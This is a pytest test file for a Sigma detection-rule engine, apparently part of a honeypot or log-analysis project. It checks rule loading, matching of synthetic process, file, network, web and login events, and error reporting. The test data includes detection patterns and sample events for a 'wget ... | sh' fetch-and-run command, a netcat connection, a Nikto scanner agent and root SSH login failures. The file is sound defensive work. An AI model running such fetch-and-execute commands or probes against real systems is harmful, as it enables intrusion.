"""Sigma rules load unchanged, run on our events, and are named where they are wrong."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from mirage.analysis.finding import Confidence, Severity
from mirage.analysis.rulebook import load_rules
from mirage.analysis.sigma.circumstances import Circumstances
from mirage.analysis.sigma.engine import SigmaEngine, load_sigma
from mirage.base.events import (
    CommandRan,
    Envelope,
    Event,
    FileChanged,
    HttpRequested,
    LayerEntered,
    LineEntered,
    LoginAttempted,
    NetworkAsked,
)

PROCESS = """
title: Decoded by hand
id: 11111111-1111-4111-8111-111111111111
status: stable
level: high
tags: [attack.execution, attack.t1059.004, attack.t1562.001]
logsource: {category: process_creation, product: linux}
detection:
  selection:
    Image|endswith: '/base64'
    CommandLine|contains|all: [' -d', 'x*y']
  filter: {User: nobody}
  condition: selection and not filter
"""


def _engine(tmp_path: Path, text: str) -> SigmaEngine:
    (tmp_path / "one.yml").write_text(text)
    return load_sigma([tmp_path])


def _envelope(event: Any) -> Envelope:
    return Envelope(id="1", time=1, host="h", session="s", source="192.0.2.1", event=event)


def _found(engine: SigmaEngine, *events: Event) -> list[str]:
    session = Circumstances()
    return [finding.title for event in events for finding in engine.examine(_envelope(event), session)]


def _ran(line: str, **more: Any) -> CommandRan:
    return CommandRan(argv=line.encode().split(), status=0, path=f"/usr/bin/{line.split()[0]}".encode(), **more)


def _asked(target: bytes, **more: Any) -> HttpRequested:
    path, _, query = target.partition(b"?")
    return HttpRequested(
        request="1", method=b"GET", target=target, path=path, query=query, version="HTTP/1.1", host=b"a.example",
        head=b"GET / HTTP/1.1\r\nCookie: c=d\r\n\r\n", body=b"", body_size=0, status=404, size=9, duration=1, **more,
    )  # fmt: skip


def test_a_finding_has_the_rules_words_and_techniques_of_today(tmp_path: Path) -> None:
    engine = _engine(tmp_path, PROCESS)
    assert (engine.problems, len(engine)) == ((), 1)
    (finding,) = engine.examine(_envelope(_ran("base64 -d xzzy")), Circumstances())
    assert (finding.rule, finding.title) == ("sigma:11111111-1111-4111-8111-111111111111", "Decoded by hand")
    assert (finding.techniques, finding.severity, finding.confidence) == (("T1059.004", "T1685"), Severity.HIGH, Confidence.HIGH)
    assert (finding.matched, finding.how) == ("base64 -d xzzy", ("sigma",))


def test_a_filter_looks_at_who_it_was(tmp_path: Path) -> None:
    engine = _engine(tmp_path, PROCESS)
    assert _found(engine, LayerEntered(layer="l", user=b"nobody", uid=65534), _ran("base64 -d xzzy")) == []
    assert _found(engine, _ran("base64 -e xzzy")) == []


def _rule(source: str, detection: str) -> str:
    return f"title: T\nlogsource: {source}\ndetection:\n{detection}"


@pytest.mark.parametrize(
    ("rule", "event"),
    [
        (_rule("{category: process_creation, product: linux}", "  s: {CommandLine|re: 'q+$'}\n  condition: s"), _ran("a bqq")),
        (_rule("{category: process_creation, product: linux}", "  s: {CommandLine: '*a?c*d'}\n  condition: s"), _ran("x abc d")),
        (_rule("{category: process_creation, product: linux}", "  s: {ParentImage: null}\n  condition: s"), _ran("x")),
        (_rule("{category: process_creation, product: linux}", "  s: {CommandLine|cased: 'X y'}\n  condition: s"), _ran("X y")),
        (_rule("{category: process_creation, product: linux}", "  s: {ProcessId|gte: 7}\n  condition: s"), _ran("x", pid=9)),
        (_rule("{category: process_creation, product: linux}", "  s1: {Image: '/usr/bin/a'}\n  s2: {Image: '/usr/bin/b'}\n  condition: 1 of s*"), _ran("b")),
        (_rule("{product: linux, service: auditd}", "  s: {type: EXECVE, a0: 'tcpdump', a1|startswith: '-'}\n  condition: s"), _ran("tcpdump -i")),
        (_rule("{category: file_event, product: linux}", "  s: {TargetFilename|startswith: '/etc/cron'}\n  condition: s"), FileChanged(change="created", path=b"/etc/cron.d/a")),
        (_rule("{category: network_connection, product: linux}", "  s: {DestinationIp|cidr: 198.51.100.0/24, Initiated: 'true'}\n  condition: s"),
         NetworkAsked(action="connect", target=b"198.51.100.7", verdict="refused", port=99, program="nc")),
        (_rule("{category: dns_query}", "  s: {QueryName|endswith: '.example'}\n  condition: s"), NetworkAsked(action="resolve", target=b"a.example", verdict="answered")),
        (_rule("{category: webserver}", "  s: {cs-method: GET, sc-status: 404}\n  k: ['/q=%27', 'zz']\n  condition: all of them"), _asked(b"/a?b=/q=%27")),
        (_rule("{category: proxy}", "  s: {c-useragent|contains: nikto}\n  condition: s"), _asked(b"/", agent=b"Nikto/2")),
        (_rule("{category: webserver}", "  s: {cs-uri-query|exists: true}\n  condition: s"), _asked(b"/?a")),
        (_rule("{product: linux}", "  k: ['wget * | sh', 'nothing']\n  condition: k"), LineEntered(text=b"wget http://a.example | sh", mode="exec")),
        (_rule("{product: linux, service: sshd}", "  k: ['Failed password for root']\n  condition: k"), LoginAttempted(method="password", username=b"root", accepted=False)),
    ],
)  # fmt: skip
def test_events_are_entries_of_the_logs_that_rules_ask_for(tmp_path: Path, rule: str, event: Event) -> None:
    engine = _engine(tmp_path, rule)
    assert engine.problems == ()
    assert _found(engine, event) == ["T"]
    assert _found(engine, _ran("zzz", pid=3), _asked(b"/plain", agent=b"Mozilla")) == _expected_of_plain(rule)


def test_a_file_that_is_only_described_anew_was_not_made(tmp_path: Path) -> None:
    made = _rule("{category: file_event, product: linux}", "  s: {TargetFilename|startswith: '/etc/cron'}\n  condition: s")
    described = _rule("{product: linux, service: auditd}", "  s: {type: PATH, nametype: NORMAL}\n  condition: s")
    for change in ("mode", "owner", "times", "attributes"):
        event = FileChanged(change=change, path=b"/etc/cron.d/a")
        assert _found(_engine(tmp_path, made), event) == []
        assert _found(_engine(tmp_path, described), event) == ["T"]


def test_sshd_says_nothing_of_a_login_to_a_database(tmp_path: Path) -> None:
    engine = _engine(tmp_path, _rule("{product: linux, service: sshd}", "  k: [' for root']\n  condition: k"))
    assert _found(engine, LoginAttempted(method="password", username=b"root", accepted=True)) == ["T"]
    assert [_found(engine, LoginAttempted(method=other, username=b"root", accepted=True)) for other in ("mysql", "web")] == [[], []]


def _expected_of_plain(rule: str) -> list[str]:
    return ["T"] if "ParentImage: null" in rule else []


def test_a_child_knows_its_parent(tmp_path: Path) -> None:
    engine = _engine(
        tmp_path,
        _rule(
            "{category: process_creation, product: linux}",
            "  s: {ParentImage|endswith: '/cron', Image|endswith: '/sh'}\n  condition: s",
        ),
    )
    assert _found(engine, _ran("cron", pid=5), _ran("sh -c x", pid=6, ppid=5)) == ["T"]


def test_a_wrong_rule_is_named_by_file_and_line_and_the_rest_go_on(tmp_path: Path) -> None:
    (tmp_path / "a.yml").write_text(PROCESS)
    (tmp_path / "b.yml").write_text(_rule("{category: process_creation}", "  s: {Image: x}\n  condition: s and nothere"))
    (tmp_path / "c.yml").write_text(_rule("{category: process_creation}", "  s:\n    Image|re: '(?=x)'\n  condition: s"))
    (tmp_path / "d.yml").write_text("title: T\nlogsource: [\n")
    (tmp_path / "e.yml").write_text("title: T\ndetection: {s: {a: b}, condition: s}\n")
    engine = load_sigma([tmp_path])
    assert len(engine) == 1
    name = tmp_path.name
    assert [str(problem).rpartition(f"{name}/")[2].split(": ")[0] for problem in engine.problems] == [
        "b.yml:5",
        "c.yml:5",
        "d.yml:3",
        "e.yml:1",
    ]


def test_rules_for_other_systems_are_no_mistake(tmp_path: Path) -> None:
    engine = _engine(tmp_path, _rule("{category: process_creation, product: windows}", "  s: {Image: x}\n  condition: s"))
    assert (engine.problems, len(engine)) == ((), 0)
    assert [place.rpartition("/")[2] for place in engine.unused] == ["one.yml:1"]


def test_ours_and_sigmas_may_lie_in_one_directory(tmp_path: Path) -> None:
    (tmp_path / "sigma.yml").write_text(PROCESS)
    (tmp_path / "own.yml").write_text(
        "id: a\ntitle: t\ntechniques: [T1190]\nseverity: low\nconfidence: low\nhits: [a]\nmisses: [b]\nmatch: {kind: http, pattern: a}\n"
    )
    assert (list(load_rules([tmp_path]).rules), load_rules([tmp_path]).problems) == (["a"], ())
    assert (len(load_sigma([tmp_path])), load_sigma([tmp_path]).problems) == (1, ())


def test_an_expression_that_counts_far_sees_the_head_of_a_long_field(tmp_path: Path) -> None:
    """Its automaton takes microseconds a character: 64 KiB of a hostile line took 230 ms."""
    rule = PROCESS.replace("Image|endswith: '/base64'\n    CommandLine|contains|all: [' -d', 'x*y']", "CommandLine|re: 'q.{70,90}w'")
    engine = _engine(tmp_path, rule)
    near, far = "base64 q" + "a" * 80 + "w", "base64 " + "a" * 5000 + "q" + "a" * 80 + "w"
    assert (_found(engine, _ran(near)), _found(engine, _ran(far))) == (["Decoded by hand"], [])
